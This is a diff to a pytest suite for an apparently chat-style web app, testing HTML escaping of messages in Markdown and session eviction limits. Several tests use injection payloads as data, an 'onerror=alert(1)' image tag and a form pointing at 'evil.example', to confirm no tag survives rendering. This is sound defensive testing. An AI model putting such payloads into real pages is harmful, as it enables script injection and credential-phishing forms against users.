@@ -88,26 +88,108 @@ def test_a_picture_on_its_way(tmp_path):
     assert "data:image/jpeg" in preview and "pixelated" not in preview and 'value="7"' in preview
 
 
+def shown_text(text):
+    [shown] = display.messages([Turn("assistant", [text])])
+    [piece] = shown["content"]
+    return piece["text"]
+
+
 def test_tags_are_letters():
-    turn = Turn("user", ["<img src=x onerror=alert(1)> & `a < b` **bold**\n```\nif a < b:\n```"])
-    [shown] = display.messages([turn])
-    expected = "&lt;img src=x onerror=alert(1)> &amp; `a < b` **bold**\n```\nif a < b:\n```"
-    assert shown == {"role": "user", "content": [{"type": "text", "text": expected}]}
+    text = "<img src=x onerror=alert(1)> & `a < *b*` **bold**\n```python\nif a < b:\n```\n<b>"
+    code = "<code>a &#60; &#42;b&#42;</code>"
+    expected = f"&lt;img src=x onerror=alert(1)> &amp; {code} **bold**\n```python\nif a < b:\n```\n&lt;b>"
+    assert shown_text(text) == expected
 
 
-def test_a_quiet_tab_is_forgotten_when_there_are_too_many(tmp_path):
+TAG = "<form action=//evil.example><input name=q></form>"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"\\`{TAG}`",
+        f"\\\\`{TAG}`",
+        f"``{TAG}`",
+        f"`a\n\n{TAG}`",
+        f"`a\n# {TAG}`",
+        f"~~~\n```\n~~~\n{TAG}\n```",
+        f"~~~ `x`\n```\n~~~\n{TAG}",
+        f"- ~~~\n  ```\n  ~~~\n  {TAG}",
+        f"> ```\n{TAG}\n> ```",
+        f"> ~~~\n> ```\n> ~~~\n> {TAG}",
+        f"````\n```\n````\n{TAG}",
+        f"``` `\n{TAG}\n```",
+        f"    ```\n{TAG}\n    ```",
+        f"\t```\n{TAG}\n```",
+        f"```\r{TAG}\r```\r{TAG}",
+        f"```\n```\n{TAG}",
+        f"[x](`{TAG}`)",
+        f"| a |\n|---|\n| `{TAG} | `",
+        f"```{TAG}\n",
+    ],
+)
+def test_no_tag_gets_through_what_looks_like_code(text):
+    """Read by another Markdown parser, the only elements of HTML are those that Markdown itself makes."""
+    MarkdownIt = pytest.importorskip("markdown_it").MarkdownIt
+    for parser in (MarkdownIt("commonmark"), MarkdownIt("gfm-like", {"linkify": False, "html": True})):
+        page = parser.render(shown_text(text))
+        assert "<form" not in page and "<input" not in page, page
+
+
+def test_code_is_shown_as_it_was_written():
+    MarkdownIt = pytest.importorskip("markdown_it").MarkdownIt
+    page = MarkdownIt("commonmark").render(
+        shown_text("Use `a<b> & *c*`:\n~~~html\n<p>`` ``` &amp;</p>\n~~~\nand ``x`y``.")
+    )
+    assert "<code>a&lt;b&gt; &amp; *c*</code>" in page.replace("&#60;", "&lt;").replace("&#62;", "&gt;")
+    assert '<code class="language-html">&lt;p&gt;`` ``` &amp;amp;&lt;/p&gt;' in page and "<code>x`y</code>" in page
+
+
+def fill(session):
+    session.begin(Turn("user", ["Hi"]))
+    return session
+
+
+def test_a_tab_is_forgotten_when_there_are_too_many(tmp_path):
     sessions = Sessions(tmp_path)
-    first = sessions.of("0")
+    first = fill(sessions.of("0"))
     for i in range(1, MAX_SESSIONS):
-        sessions.of(str(i))
+        fill(sessions.of(str(i)))
     assert sessions.of("0") is first
     sessions.of("one more")
     assert len(sessions) == MAX_SESSIONS and not first.is_closed and sessions.of("0") is first
+    assert sessions.find("1") is None and sessions.find("2") is not None
     sessions.close("0")
     assert first.is_closed and sessions.of("0") is not first
     sessions.close("unknown")
     with pytest.raises(ValueError, match="no open page"):
         sessions.of(None)
+
+
+def test_made_up_names_take_no_session_from_others(tmp_path):
+    sessions = Sessions(tmp_path)
+    friend, waiting = fill(sessions.of("friend", "10.0.0.1")), sessions.of("waiting", "10.0.0.2")
+    waiting.is_busy = True
+    for i in range(3 * MAX_SESSIONS):
+        fill(sessions.of(f"stranger {i}", "10.0.0.9"))
+    assert sessions.find("friend") is friend and sessions.find("waiting") is waiting
+    assert len(sessions) == MAX_SESSIONS
+
+
+def test_behind_a_proxy_empty_sessions_go_first(tmp_path):
+    sessions = Sessions(tmp_path)
+    friends = [fill(sessions.of(f"friend {i}", "127.0.0.1")) for i in range(9)]
+    for i in range(3 * MAX_SESSIONS):
+        sessions.of(f"stranger {i}", "127.0.0.1")
+    assert [sessions.find(f"friend {i}") for i in range(9)] == friends
+
+
+def test_a_session_that_waits_is_never_forgotten(tmp_path):
+    sessions = Sessions(tmp_path)
+    for i in range(MAX_SESSIONS):
+        sessions.of(str(i)).is_busy = True
+    with pytest.raises(ValueError, match="too many people use this page"):
+        sessions.of("one more")
 
 
 def test_settings_become_options():
@@ -163,6 +245,11 @@ def test_uploads_are_limited(actions, tmp_path, monkeypatch):
     GREY.save(path)
     with pytest.raises(ValueError, match=r"large\.png has \d+ bytes; the limit is 10"):
         ask(actions, actions.sessions.of("tab"), "x", [str(path)])
+
+
+def test_an_upload_that_made_room_for_others(actions, tmp_path):
+    with pytest.raises(ValueError, match=r"gone\.png is not kept any more; add it again"):
+        ask(actions, actions.sessions.of("tab"), "x", [str(tmp_path / "gone.png")])
 
 
 def test_one_answer_at_a_time_in_a_tab(actions):
